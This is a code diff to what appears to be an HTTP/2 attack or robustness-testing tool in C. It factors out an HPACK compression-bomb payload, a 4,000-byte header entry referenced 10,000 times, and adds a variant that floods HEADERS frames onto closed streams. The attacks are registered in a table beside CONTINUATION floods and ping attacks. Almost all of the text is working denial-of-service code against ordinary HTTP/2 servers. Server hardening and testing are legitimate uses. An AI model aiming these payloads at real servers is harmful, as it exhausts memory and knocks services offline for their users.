@@ -192,22 +192,41 @@ static void continuation_empty(struct attacker *a)
 	continuations(a, 0);
 }
 
-/* a header of 4,000 bytes goes into the table, and is then named by one byte each time */
+/* A header of 4,000 bytes goes into the table, and is then named by one byte each time. */
+static void add_bomb(struct ck_bytes *block)
+{
+	add_byte(block, 0x40);
+	add_byte(block, 1);
+	add(block, "x", 1);
+	add_byte(block, 0x7f); /* 4,000 in HPACK's numbers */
+	add_byte(block, ((4000 - 127) & 0x7f) | 0x80);
+	add_byte(block, (4000 - 127) >> 7);
+	for (unsigned i = 0; i < 4000; i++)
+		add(block, "y", 1);
+	for (unsigned i = 0; i < 10000; i++)
+		add_byte(block, 0x80 | 62);
+}
+
 static void hpack_bomb(struct attacker *a)
 {
-	static const char many[4000];
 	struct ck_bytes block = { 0 };
 	request_headers(&block, "Version");
-	add_byte(&block, 0x40);
-	add_byte(&block, 1);
-	add(&block, "x", 1);
-	add_byte(&block, 0x7f); /* 4,000 in HPACK's numbers */
-	add_byte(&block, ((4000 - 127) & 0x7f) | 0x80);
-	add_byte(&block, (4000 - 127) >> 7);
-	for (unsigned i = 0; i < sizeof(many); i++)
-		add(&block, "y", 1);
-	for (unsigned i = 0; i < 10000; i++)
-		add_byte(&block, 0x80 | 62);
+	add_bomb(&block);
+	for (unsigned i = 0; i < BURST / 10; i++) {
+		frame(a, HEADERS, END_HEADERS | END_STREAM, a->next_stream, block.p, block.len);
+		a->next_stream += 2;
+	}
+	ck_bytes_free(&block);
+}
+
+/* of calls that are over, because one with a greater number has begun */
+static void hpack_bomb_closed(struct attacker *a)
+{
+	struct ck_bytes block = { 0 };
+	request_headers(&block, "Version");
+	if (!a->bursts)
+		frame(a, HEADERS, END_HEADERS | END_STREAM, 2 * STREAMS - 1, block.p, block.len);
+	add_bomb(&block);
 	for (unsigned i = 0; i < BURST / 10; i++) {
 		frame(a, HEADERS, END_HEADERS | END_STREAM, a->next_stream, block.p, block.len);
 		a->next_stream += 2;
@@ -383,6 +402,7 @@ const struct attack attacks[] = {
 	ATTACK(continuation_full),
 	ATTACK(continuation_empty),
 	ATTACK(hpack_bomb),
+	ATTACK(hpack_bomb_closed),
 	ATTACK(pings),
 	ATTACK(pings_of_the_deaf),
 	ATTACK(settings),
